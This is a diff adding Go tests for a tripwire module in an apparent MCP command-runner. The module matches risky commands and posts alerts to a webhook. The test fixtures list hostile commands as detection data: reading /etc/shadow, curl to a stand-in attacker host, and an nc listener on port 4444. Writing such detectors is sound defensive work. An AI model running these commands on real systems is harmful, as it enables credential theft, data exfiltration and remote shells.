@@ -0,0 +1,79 @@
+package tripwire
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"sync"
+	"testing"
+
+	"github.com/mjmorales/simple-mcp-runner/internal/logger"
+	"github.com/mjmorales/simple-mcp-runner/pkg/config"
+	"github.com/mjmorales/simple-mcp-runner/pkg/types"
+)
+
+func TestWires_Match(t *testing.T) {
+	cfg := config.Default()
+	cfg.Security.Tripwires = []config.Tripwire{
+		{Name: "shadow", Commands: []string{"cat", "less"}, ArgsPattern: `/etc/shadow`},
+		{Name: "exfil", Commands: []string{"curl", "wget"}, ArgsPattern: `attacker\.example`},
+		{Name: "nc", Commands: []string{"nc"}},
+	}
+	w := New(cfg, logger.Default())
+
+	tests := []struct {
+		command string
+		args    []string
+		want    string
+	}{
+		{"cat", []string{"/etc/shadow"}, "shadow"},
+		{"/bin/cat", []string{"-n", "/etc/shadow"}, "shadow"},
+		{"cat", []string{"/etc/hosts"}, ""},
+		{"curl", []string{"-s", "https://attacker.example/x"}, "exfil"},
+		{"curl", []string{"https://example.com"}, ""},
+		{"nc", []string{"-l", "4444"}, "nc"},
+		{"ls", nil, ""},
+	}
+	for _, tt := range tests {
+		if got := w.Match(tt.command, tt.args); got != tt.want {
+			t.Errorf("Match(%s %v) = %q, want %q", tt.command, tt.args, got, tt.want)
+		}
+	}
+}
+
+func TestWires_Alert(t *testing.T) {
+	var (
+		mu       sync.Mutex
+		received []types.TripwireAlert
+	)
+	webhook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var alert types.TripwireAlert
+		if err := json.NewDecoder(r.Body).Decode(&alert); err != nil {
+			t.Errorf("webhook body: %v", err)
+		}
+		mu.Lock()
+		received = append(received, alert)
+		mu.Unlock()
+	}))
+	defer webhook.Close()
+
+	cfg := config.Default()
+	cfg.Security.TripwireWebhook = webhook.URL
+	w := New(cfg, logger.Default())
+
+	w.Alert(types.TripwireAlert{Tripwire: "shadow", Command: "cat", Args: []string{"/etc/shadow"}, Client: "editor"})
+	w.Wait()
+
+	mu.Lock()
+	defer mu.Unlock()
+	if len(received) != 1 {
+		t.Fatalf("webhook received %d alerts, want 1", len(received))
+	}
+	got := received[0]
+	if got.Severity != SeverityHigh || got.Time.IsZero() {
+		t.Errorf("alert = %+v, want high severity and a time", got)
+	}
+	if want := "Tripwire shadow triggered by editor: cat /etc/shadow"; got.Text != want {
+		t.Errorf("Text = %q, want %q", got.Text, want)
+	}
+}